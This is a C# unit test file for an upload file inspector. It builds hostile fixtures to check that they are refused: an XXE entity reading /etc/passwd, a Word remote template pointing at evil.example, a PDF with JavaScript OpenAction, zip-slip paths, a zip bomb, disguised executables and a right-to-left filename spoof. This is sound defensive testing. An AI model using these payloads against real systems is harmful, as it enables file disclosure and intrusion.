using System.IO.Compression;
using System.Text;
using Touchstone.Core.Platform.Files;

namespace Touchstone.Core.Tests.Platform.Files;

public sealed class FileInspectorTests
{
    private const string Types =
        """<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>""";
    private const string Rels =
        """<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>""";

    [Fact]
    public void Ordinary_files_are_taken_for_what_they_are()
    {
        Taken("notes.docx", Word()).ShouldBe(OfficePackage.Word);
        Taken("plan.pdf", "%PDF-1.7\n1 0 obj\nendobj\ntrailer\n%%EOF\n"u8.ToArray()).ShouldBe("application/pdf");
        Taken("list.csv", Encoding.UTF8.GetBytes("a,b\r\n1,ä\r\n")).ShouldBe("text/csv");
        Taken("note.txt", Encoding.UTF8.GetBytes("Guten Tag")).ShouldBe("text/plain");
        Taken("data.json", "{\"a\":[1,2]}"u8.ToArray()).ShouldBe("application/json");
        Taken("dot.png", Png()).ShouldBe("image/png");
    }

    [Theory]
    [InlineData("run.exe")]
    [InlineData("page.html")]
    [InlineData("drawing.svg")]
    [InlineData("old.doc")]
    [InlineData("macro.docm")]
    [InlineData("noextension")]
    public void Other_kinds_are_refused_by_name(string name) =>
        FileInspector.Inspect(new Upload(name, "anything"u8.ToArray())).Problem.ShouldNotBeNull();

    [Theory]
    [InlineData("renamed.pdf")]
    [InlineData("renamed.docx")]
    [InlineData("renamed.xlsx")]
    [InlineData("renamed.png")]
    [InlineData("renamed.jpg")]
    [InlineData("renamed.txt")]
    [InlineData("renamed.json")]
    public void A_program_under_another_name_is_refused(string name) =>
        FileInspector.Inspect(new Upload(name, [0x4D, 0x5A, 0x90, 0, 3, 0, 0, 0, 4, 0])).Problem.ShouldNotBeNull();

    [Fact]
    public void A_picture_with_something_behind_it_is_refused() =>
        FileInspector.Inspect(new Upload("dot.png", [.. Png(), .. "PK<script>"u8])).Problem.ShouldNotBeNull();

    [Fact]
    public void Macros_active_content_and_what_loads_from_elsewhere_are_refused()
    {
        Refused(Package(("word/document.xml", "<d/>"), ("word/vbaProject.bin", "x"))).ShouldContain("macros");
        Refused(
                Package(
                    ("word/document.xml", "<d/>"),
                    (
                        "word/_rels/settings.xml.rels",
                        """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"""
                    )
                )
            )
            .ShouldContain("from elsewhere");
        FileInspector
            .Inspect(new Upload("a.pdf", "%PDF-1.7\n<< /OpenAction << /S /JavaScript >> >>\n%%EOF"u8.ToArray()))
            .Problem.ShouldNotBeNull();
    }

    [Fact]
    public void A_document_type_is_refused_so_that_no_entity_is_ever_read() =>
        Refused(Package(("word/document.xml", """<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>""")))
            .ShouldContain("cannot be taken");

    [Theory]
    [InlineData("../../etc/cron.d/x")]
    [InlineData("/etc/passwd")]
    [InlineData("word\\..\\x")]
    [InlineData("C:/x")]
    public void A_part_that_climbs_out_of_its_package_is_refused(string name) =>
        Refused(Package(("word/document.xml", "<d/>"), (name, "x"))).ShouldContain("cannot be taken");

    [Fact]
    public void What_unpacks_to_too_much_is_refused_whatever_it_says_of_itself()
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            Add(zip, "[Content_Types].xml", Types);
            Add(zip, "_rels/.rels", Rels);
            Add(zip, "word/document.xml", "<d/>");
            using var bomb = zip.CreateEntry("word/media/image1.png", CompressionLevel.Fastest).Open();
            var block = new byte[1024 * 1024];
            for (var i = 0; i < 210; i++)
            {
                bomb.Write(block);
            }
        }
        Refused(stream.ToArray()).ShouldContain("unpacks to too much");
    }

    [Fact]
    public void Many_small_parts_are_too_much_as_well() =>
        Refused(
                Package([
                    ("word/document.xml", "<d/>"),
                    .. Enumerable.Range(0, 2_100).Select(i => ($"word/p{i}.xml", "<p/>")),
                ])
            )
            .ShouldContain("unpacks to too much");

    [Theory]
    [InlineData("../../../etc/passwd.txt", "passwd.txt")]
    [InlineData("C:\\Users\\x\\plan.TXT", "plan.txt")]
    [InlineData("evil\u202Etxt.exe", "eviltxt.exe")]
    [InlineData("a<b>:c|d?.txt", "abcd.txt")]
    [InlineData("line\r\nbreak.txt", "linebreak.txt")]
    [InlineData("...txt", "txt")]
    [InlineData(".txt", "txt")]
    public void Names_are_cleaned(string given, string kept) => FileName.Clean(given).ShouldBe(kept);

    [Fact]
    public void Empty_and_huge_files_are_refused()
    {
        FileInspector.Inspect(new Upload("a.txt", [])).Problem.ShouldNotBeNull();
        FileInspector.Inspect(new Upload("a.txt", new byte[Upload.SizeLimit + 1])).Problem.ShouldNotBeNull();
    }

    private static string Taken(string name, byte[] content)
    {
        var inspection = FileInspector.Inspect(new Upload(name, content));
        inspection.Problem.ShouldBeNull();
        return inspection.MediaType;
    }

    private static string Refused(byte[] package) =>
        FileInspector.Inspect(new Upload("file.docx", package)).Problem.ShouldNotBeNull();

    private static byte[] Word() => Package(("word/document.xml", "<d/>"));

    private static byte[] Package(params (string Name, string Content)[] parts)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            Add(zip, "[Content_Types].xml", Types);
            Add(zip, "_rels/.rels", Rels);
            foreach (var (name, content) in parts)
            {
                Add(zip, name, content);
            }
        }
        return stream.ToArray();
    }

    private static void Add(ZipArchive zip, string name, string content)
    {
        using var entry = zip.CreateEntry(name).Open();
        entry.Write(Encoding.UTF8.GetBytes(content));
    }

    private static byte[] Png() =>
        Convert.FromBase64String(
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
        );
}
